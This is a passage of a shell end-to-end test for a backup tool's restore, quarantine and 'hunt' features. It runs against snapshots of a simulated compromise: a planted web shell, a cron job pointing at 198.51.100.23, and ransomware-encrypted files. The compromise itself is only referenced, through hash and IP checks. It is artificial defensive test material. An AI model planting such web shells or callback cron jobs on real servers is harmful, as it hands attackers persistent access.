[ "$RC" -eq 8 ] || { e2e_show; e2e_fail_later "restore of day 5 (web shell) exited $RC, expected 8"; }
# With --accept-risk, the files come back (here only alice's, to stay quick).
e2e_run restore "${SNAP[12]}" --accept-risk --include "$S/home/alice" --target "$R12"
if [ "$RC" -ne 0 ]; then
    e2e_show
    e2e_fail_later "restore --accept-risk of day 12 exited $RC, expected 0"
elif [ -z "$(find "$R12" -name "*.$EXT" | head -n1)" ]; then
    e2e_fail_later "restore --accept-risk of day 12 did not restore the encrypted files"
fi

# The clean point comes back as it was on day 4.
RC4="$SCRATCH/restore-clean"
e2e_log "restore of the clean point ${SNAP[4]:0:8}"
e2e_run restore "${SNAP[4]}" --target "$RC4" --threads 2
e2e_expect_rc 0 "restore of the clean point (day 4)"
RR=$(e2e_restored_root "$RC4" "$S") || e2e_fail "restored server tree not found"
for part in home:home srv:srv www:var/www; do
    e2e_checksums "$RR/${part#*:}" | cmp -s - "$SCRATCH/day4-${part%%:*}.sums" ||
        e2e_fail_later "restored /${part#*:} of the clean point differs from day 4's"
done
[ ! -e "$RR$SHELL_REL" ] || e2e_fail_later "the clean point holds the web shell"

# --quarantine: day 8 restored with its flagged files set apart.
Q="$SCRATCH/quarantine"
R8="$SCRATCH/restore-day8"
e2e_run restore "${SNAP[8]}" --accept-risk --quarantine "$Q" --include "$S/var/www" --include "$S/etc/cron.d" \
    --target "$R8"
case $RC in
0 | 5)
    [ ! -e "$R8$S$SHELL_REL" ] || e2e_fail_later "--quarantine: the web shell was restored into the target"
    [ -e "$R8$S/var/www/html/index.html" ] || e2e_fail_later "--quarantine: the clean files of the web root were not restored"
    grep -rlq "e10adc3949ba59abbe56e057f20f883e" "$Q" 2>/dev/null ||
        e2e_fail_later "--quarantine: the web shell is not in the quarantine folder $Q"
    grep -rlq "198.51.100.23" "$Q" 2>/dev/null ||
        e2e_fail_later "--quarantine: the cron job is not in the quarantine folder $Q" ;;
*) e2e_show; e2e_fail_later "restore --accept-risk --quarantine of day 8 exited $RC" ;;
esac

# --- hunting again is cheap: nothing hunted, nothing read
hunt_ok "hunt again"
read -r hunted current scanned < <(hunt_json "$HUNT_JSON" '"%d %d %d" % (j["snapshots_hunted"], j["snapshots_current"], j["contents_scanned"])')
if [ "$hunted" -ne 0 ] || [ "$scanned" -ne 0 ] || [ "$current" -ne 12 ]; then
    e2e_fail_later "hunting again hunted $hunted snapshots and scanned $scanned contents ($current current), expected 0, 0 (12)"
fi

# HUNT_KEEP=DIR keeps a copy of the vault for a look after the test.
if [ -n "${HUNT_KEEP:-}" ]; then
    rm -rf "$HUNT_KEEP" && cp -a "$REPO" "$HUNT_KEEP" && e2e_log "vault kept in $HUNT_KEEP"
fi
e2e_pass
